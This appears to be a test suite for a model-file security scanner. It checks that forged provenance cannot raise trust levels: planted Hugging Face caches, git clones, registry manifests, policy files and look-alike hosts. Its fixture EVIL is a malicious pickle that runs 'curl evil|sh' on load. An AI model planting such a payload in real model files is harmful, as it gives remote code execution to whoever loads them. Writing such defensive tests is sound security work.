#!/usr/bin/python3
"""What a hostile target can say about itself, and that it gains nothing by it."""
import importlib.util, json, os, sys

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from tap import *

spec = importlib.util.spec_from_file_location(
    "stores", os.path.join(TOP, "fixtures", "origins", "make.py"))
stores = importlib.util.module_from_spec(spec)
spec.loader.exec_module(stores)

EVIL = b"cos\nsystem\n(S'curl evil|sh'\ntR."
GATES = ("default", "ci", "audit")
TRUSTED = "https://huggingface.co/google/gemma"


def plant(d):
    """A payload that looks published wherever one can look, under every store's layout."""
    digest, git = stores.sha256(EVIL), stores.git_sha1(EVIL)
    place = lambda *parts: stores.write(os.path.join(d, *parts), EVIL)
    # a Hugging Face cache whose blob names are right
    repo = os.path.join(d, "models--google--gemma")
    place("models--google--gemma", "blobs", digest)
    snapshot = os.path.join(repo, "snapshots", stores.COMMIT)
    os.makedirs(snapshot)
    os.symlink("../../blobs/" + digest, os.path.join(snapshot, "model.pkl"))
    write(snapshot + "/config.json", b'{"_name_or_path": "google/gemma", "trust": "high"}')
    # a download of hf with notes that fit
    place("local", "model.pkl")
    stores.write(os.path.join(d, "local/.cache/huggingface/download/model.pkl.metadata"),
                 "%s\n%s\n1700000000.0\n" % (stores.COMMIT, digest))
    # a clone of a trusted repository
    stores.git_clone(os.path.join(d, "clone"), url=TRUSTED)
    place("clone", "model.pkl")
    # MLflow, DVC, W&B, kagglehub, torch.hub
    stores.mlruns(os.path.join(d, "ml"))
    place("ml/mlruns/1", stores.RUN, "artifacts/model/model.pkl")
    stores.dvc_file(os.path.join(d, "dvc"), data=EVIL, name="model.pkl",
                    extra="deps:\n- path: m.pkl\n  repo: {url: 'https://git.acme.example/ml/registry', rev_lock: %s}\n"
                          % stores.COMMIT)
    place("w/artifacts/gemma:v3/model.pkl")
    place("kagglehub/models/google/gemma/pyTorch/2b/1/model.pkl")
    place("hub/checkpoints/resnet50-%s.pth" % digest[:8])
    # an Ollama store: the official library
    place("ollama/blobs/sha256-" + digest)
    stores.write(os.path.join(d, "ollama/manifests/registry.ollama.ai/library/llama3/latest"), json.dumps({
        "layers": [{"digest": "sha256:" + digest, "size": len(EVIL)}]}))
    # configuration of Assay's own, wherever it might look
    for name in ("registries.d/huggingface.json", ".config/assay/registries.d/x.json", "etc/assay/registries.d/x.json"):
        stores.write(os.path.join(d, name), json.dumps({
            "schema": 1, "id": "huggingface", "name": "HuggingFace Hub", "driver": "json-rest",
            "description": "x", "advice": "x", "has_api": True, "trust": {"default": "high"}}))
    for name in ("policy.json", ".assay.json", "assay.json", "models.lock.json", "rules/pickle/python.json"):
        stores.write(os.path.join(d, name), json.dumps({"gate": "audit", "accept_declared": True, "safe": [["posix", "system"]]}))
    try:
        os.setxattr(os.path.join(d, "local/model.pkl"), "user.xdg.origin.url", TRUSTED.encode())
    except OSError:
        pass
    return d


def planted():
    return plant(scratch())


def payloads(r):
    return [f for f in findings(r) if f["rule"] == "pickle/dangerous-call"]


@case
def nothing_raises_trust_under_any_gate():
    d = planted()
    for gate in GATES:
        r = report("--gate", gate, d, cwd=d, env={"XDG_CONFIG_HOME": ""})
        assert {m["trust"] for m in r["models"]} == {"unknown"}, [(m["identity"], m["trust"]) for m in r["models"]]
        assert {m["origin"]["basis"] for m in r["models"]} <= {"none", "declared"}
        assert r["verdict"] == "fail", gate


@case
def a_ci_gate_is_not_met_by_what_is_declared():
    d = scratch()
    stores.hub_cache(d)
    assert scan("--gate", "ci", d).returncode == 1
    for levels in ("high", "medium", "high,medium,low,internal"):
        assert scan("--allow-trust", levels, d).returncode == 1, levels
    assert scan("--allow-trust", "unknown", d).returncode == 0


@case
def every_payload_keeps_its_severity():
    d = planted()
    plain = scratch()
    write(plain + "/model.pkl", EVIL)
    (alone,) = payloads(report(plain))
    assert alone["severity"] == "critical"
    for options in ([], ["--accept-declared"], ["--accept-declared", "--gate", "ci"], ["--origin", "hf:google/gemma"]):
        r = report(*options, d)
        found = payloads(r)
        paths = {f["path"] for f in found}
        assert len(paths) == 9, sorted(paths)
        assert {f["severity"] for f in found} == {"critical"}
        assert r["exit_code"] == 1


@case
def digests_of_the_target_are_consistent_at_best():
    r = report("--accept-declared", planted())
    seen = {e["state"] for f in files(r).values() for e in f["expected"]}
    assert seen == {"consistent"}, seen


@case
def registries_and_policies_in_the_target_are_not_read():
    d = planted()
    for home in (d, os.path.join(d, "local")):
        r = report("--gate", "audit", "--origin", "hf:google/gemma", d, cwd=home)
        assert {m["trust"] for m in r["models"]} == {"medium"}  # not high: the table's level


@case
def accepting_what_is_declared_gives_the_tables_level_and_no_more():
    d = planted()
    levels = {}
    for m in report("--gate", "audit", "--accept-declared", d)["models"]:
        if m["origin"]["registry"]:
            levels.setdefault(m["origin"]["registry"], set()).add(m["trust"])
    assert levels["huggingface"] <= {"medium", "unknown"} and "medium" in levels["huggingface"], levels
    assert levels["ollama"] == levels["kaggle"] == {"medium"}, levels
    assert levels["mlflow"] == levels["dvc"] == {"unknown"}, levels


@case
def internal_needs_an_endpoint_that_the_operator_configured():
    d = scratch()
    stores.mlruns(d)
    trust = lambda **env: report("--gate", "audit", "--accept-declared", d, env=env)["models"][0]["trust"]
    assert trust(MLFLOW_TRACKING_URI="", MLFLOW_REGISTRY_URI="") == "unknown"
    assert trust(MLFLOW_TRACKING_URI="https://mlflow.acme.example") == "internal"
    # and without accepting it, never
    r = report("--gate", "audit", d, env={"MLFLOW_TRACKING_URI": "https://mlflow.acme.example"})
    assert r["models"][0]["trust"] == "unknown"
    # a clone from somebody else's server is not ours, whatever endpoint is configured
    for url, expected in (("https://gitlab.acme.example/acme/risk/ml/-/ml/models/4", "internal"),
                          ("https://gitlab.evil.example/acme/risk/ml/-/ml/models/4", "unknown")):
        c = scratch()
        stores.xattr(c, url)
        m = report("--gate", "audit", "--accept-declared", c,
                   env={"GITLAB_URL": "https://gitlab.acme.example"})["models"][0]
        assert m["trust"] == expected, (url, m["origin"], m["trust"])


@case
def low_trust_is_believed_without_being_accepted():
    d = scratch()
    stores.civitai(d)
    r = report("--gate", "audit", d)
    assert "trust/low" in rules(r) and r["models"][0]["trust"] == "unknown"
    r = report("--gate", "audit", "--origin", "hf:acme/linear", d)
    assert r["models"][0]["trust"] == "low" and "trust/origin-conflict" in rules(r)


@case
def a_users_push_is_not_the_library():
    d = scratch()
    stores.ollama(d, space="mallory")
    assert report("--gate", "audit", "--accept-declared", d)["models"][0]["trust"] == "low"
    d = scratch()
    stores.ollama(d, host="registry.evil.example")
    assert report("--gate", "audit", "--accept-declared", d)["models"][0]["trust"] == "unknown"


@case
def look_alike_hosts_are_unknown():
    for url in ("https://huggingface.co.evil.example/google/gemma", "https://huggingface.co@evil.example/google/gemma",
                "https://evil.example/huggingface.co/google/gemma", "https://huggingface.co%2egoogle/gemma",
                "https://huggingface.co/google/../evil/gemma", "http://huggingface.co/google/gemma"):
        d = scratch()
        stores.git_clone(d, url=url)
        m = report("--gate", "audit", "--accept-declared", d)["models"][0]
        assert m["trust"] == "unknown" and m["origin"]["registry"] is None, (url, m["origin"])


main()
